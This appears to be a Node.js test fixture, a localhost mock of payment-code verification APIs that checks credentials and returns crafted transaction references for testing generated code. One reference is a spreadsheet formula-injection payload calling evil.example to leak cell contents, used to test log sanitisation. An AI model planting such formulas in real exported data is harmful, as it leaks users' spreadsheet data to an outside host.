'use strict';
// A stand-in for the payment providers' verification APIs, for the snippet tests only. Listens on 127.0.0.1 on a
// free port and prints "PORT <n>" once ready. A code is valid when it starts with "GOOD" and the request carries
// an expected account and its secret (FAKE_CREDENTIALS, a JSON array of [account, secret] pairs), so a test proves
// the secret reached the generated code intact.
//   GET  /dedipass/v1/pay/?public_key=A&private_key=S&code=C          -> {"status":"success",...} | {"status":"error"}
//   GET  /starpass/check_php.php?ident=A&codes=C&DATAS=S              -> OUI|C|FR|... | NON
//   GET  /allopass/checkcode.apu?code=C&auth=A/S                      -> OK | ERROR
//   POST /generic/verify  merchant=A&code=C&ip=I, Authorization: Bearer S -> {"valid":true,"transaction_id":...}
//   any  /down/...                                                    -> 503
// GET /__calls returns how many checks were answered.
const http = require('http');

const credentials = JSON.parse(process.env.FAKE_CREDENTIALS || '[]');
let calls = 0;

function valid(code, gotAccount, gotSecret) {
    return typeof code === 'string' && code.startsWith('GOOD')
        && credentials.some(([account, secret]) => account === gotAccount && secret === gotSecret);
}

// Codes naming a hostile reference get it, so a test sees what the generated code writes into the sales log.
function reference(code) {
    if (code.includes('ACCENT')) {
        return 'A'.repeat(127) + '\u00e9' + 'B'.repeat(20); // the accent's two bytes straddle byte 128
    }
    if (code.includes('FORMULA')) {
        return '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    }
    if (code.includes('ATSIGN')) {
        return '@SUM(1+1)';
    }
    return 'TX-' + Buffer.from(code).toString('hex').slice(0, 12);
}

function send(res, status, type, body) {
    res.writeHead(status, { 'Content-Type': type });
    res.end(body);
}

const server = http.createServer((req, res) => {
    const url = new URL(req.url, 'http://127.0.0.1');
    const q = url.searchParams;
    const chunks = [];
    req.on('data', (c) => chunks.push(c));
    req.on('end', () => {
        if (url.pathname === '/__calls') {
            send(res, 200, 'text/plain', String(calls));
            return;
        }
        calls += 1;
        if (url.pathname.startsWith('/down/')) {
            send(res, 503, 'text/plain', 'Service Unavailable');
            return;
        }
        if (url.pathname === '/dedipass/v1/pay/' && req.method === 'GET') {
            const code = q.get('code');
            const ok = valid(code, q.get('public_key'), q.get('private_key'));
            send(res, 200, 'application/json', JSON.stringify(ok
                ? { status: 'success', code: code, rate: 'FR-SMS-250', payout: 1.5, identifier: reference(code) }
                : { status: 'error', message: 'Invalid code' }));
            return;
        }
        if (url.pathname === '/starpass/check_php.php' && req.method === 'GET') {
            const code = q.get('codes');
            const ok = valid(code, q.get('ident'), q.get('DATAS'));
            send(res, 200, 'text/plain', ok ? 'OUI|' + code + '|FR|2.50|8|sms' : 'NON');
            return;
        }
        if (url.pathname === '/allopass/checkcode.apu' && req.method === 'GET') {
            const code = q.get('code');
            const auth = String(q.get('auth') || '');
            const pair = credentials.find(([account, secret]) => auth === account + '/' + secret);
            const ok = pair !== undefined && valid(code, pair[0], pair[1]);
            send(res, 200, 'text/plain', ok ? 'OK' : 'ERROR');
            return;
        }
        if (url.pathname === '/generic/verify' && req.method === 'POST') {
            const form = new URLSearchParams(Buffer.concat(chunks).toString('utf8'));
            const bearer = String(req.headers.authorization || '').replace(/^Bearer /, '');
            const code = form.get('code');
            const ok = valid(code, form.get('merchant'), bearer) && form.get('ip') === '127.0.0.1';
            send(res, ok ? 200 : 404, 'application/json',
                JSON.stringify(ok ? { valid: true, transaction_id: reference(code) } : { valid: false }));
            return;
        }
        send(res, 404, 'text/plain', 'no such route');
    });
});

server.listen(0, '127.0.0.1', () => {
    process.stdout.write('PORT ' + server.address().port + '\n');
});
// Never outlives the test that started it.
setTimeout(() => process.exit(0), Number(process.env.FAKE_LIFETIME_MS || 120000)).unref();
